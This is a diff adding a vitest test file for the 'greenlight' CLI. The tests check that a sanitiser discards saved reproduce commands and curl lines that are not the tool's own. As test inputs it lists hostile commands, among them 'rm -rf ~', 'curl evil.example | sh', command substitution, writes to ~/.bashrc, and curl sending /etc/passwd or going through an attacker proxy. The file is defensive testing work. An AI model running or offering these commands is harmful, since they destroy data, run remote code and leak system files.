@@ -1,0 +1,73 @@
+import { expect, test } from 'vitest';
+import { withOwnCommands } from '../../src/cli/saved/own-commands.ts';
+import type { Finding, Run } from '../../src/model/run.ts';
+import { sampleRun } from '../support/sample-run.ts';
+
+const [first] = sampleRun.findings as [Finding];
+const exchange = sampleRun.exchanges.find(({ id }) => first.exchanges.includes(id));
+const url = exchange?.request?.url ?? '';
+const base = sampleRun.target.clientBase;
+
+const kept = (reproduce: Finding['reproduce']) => {
+  const run: Run = { ...sampleRun, findings: [{ ...first, reproduce }] };
+  return withOwnCommands(run).findings[0]?.reproduce;
+};
+
+const anew = `greenlight run -u ${base} --only ${first.scenario}`;
+
+test.each([
+  ['another command', 'rm -rf ~'],
+  ['a second command', 'greenlight run; curl evil.example | sh'],
+  ['one in the background', 'greenlight run & curl evil.example'],
+  ['a substitution', 'greenlight run -c "$(curl evil.example)"'],
+  ['an old substitution', 'greenlight run -c `curl evil.example`'],
+  ['a redirection', 'greenlight run > ~/.bashrc'],
+  ['a second line', 'greenlight run\ncurl evil.example'],
+  ['a carriage return', 'greenlight run\rcurl evil.example'],
+  ['a variable of no quotes', 'greenlight run -c $HOME/x'],
+  ['a pattern', 'greenlight run -c ~/*'],
+  ['quotes that stay open', "greenlight run -c 'x"],
+  ['escape sequences', 'greenlight run \u001b[2J'],
+  ['another address', 'greenlight run -u https://evil.example'],
+  ['another address in long', 'greenlight run --base-url https://evil.example'],
+  ['an address with =', 'greenlight run --base-url=https://evil.example'],
+  ['another subcommand', 'greenlight serve --host 0.0.0.0'],
+  ['another option', 'greenlight run --out /etc'],
+  ['a name that looks like ours', 'greenlight-x run'],
+])('a command of a stranger is made anew: %s', (_what, command) => {
+  expect(kept({ command })).toEqual({ command: anew });
+});
+
+test.each([
+  'greenlight run --only delivery-price/full-order',
+  `greenlight run -u ${base} --seed 7 --only delivery-price/full-order`,
+  "greenlight run -c 'my config.yaml' --insecure --only delivery-price/full-order",
+  'greenlight demo --fault net-value-missing --only delivery-price/full-order',
+  'greenlight validate transactions export.json',
+])('one of ours stays: %s', (command) => {
+  expect(kept({ command })).toEqual({ command });
+});
+
+test.each([
+  ['another program', `wget ${url}`],
+  ['another address', 'curl -sS https://evil.example'],
+  ['two addresses', `curl -sS ${url} https://evil.example`],
+  ['a file that is written', `curl -sS -o /tmp/x ${url}`],
+  ['a file of options', `curl -sS -K /tmp/x ${url}`],
+  ['a file that is sent', `curl -sS ${url} --data @/etc/passwd`],
+  ['a file that is sent by name', `curl -sS ${url} --data-urlencode a@/etc/passwd`],
+  ['a file of headers', `curl -sS ${url} -H @/etc/passwd`],
+  ['a proxy', `curl -sS -x evil.example ${url}`],
+  ['a second command', `curl -sS ${url}; sh`],
+  ['a substitution in a header', `curl -sS ${url} -H "x: $(id)"`],
+  ['another method', `curl -sS -X DELETE ${url}`],
+])('a curl line of a stranger is left out: %s', (_what, curl) => {
+  expect(kept({ command: anew, curl })).toEqual({ command: anew });
+});
+
+test.each([
+  `curl -sS -X POST \\\n  ${url} \\\n  -H 'x-auth-token: it'\\''s'`,
+  `curl -sS --max-time 60 ${url} -H "x-auth-token: $GREENLIGHT_TOKEN" --data '{"a":1}'`,
+])('one of ours stays: %s', (curl) => {
+  expect(kept({ command: anew, curl })).toEqual({ command: anew, curl });
+});
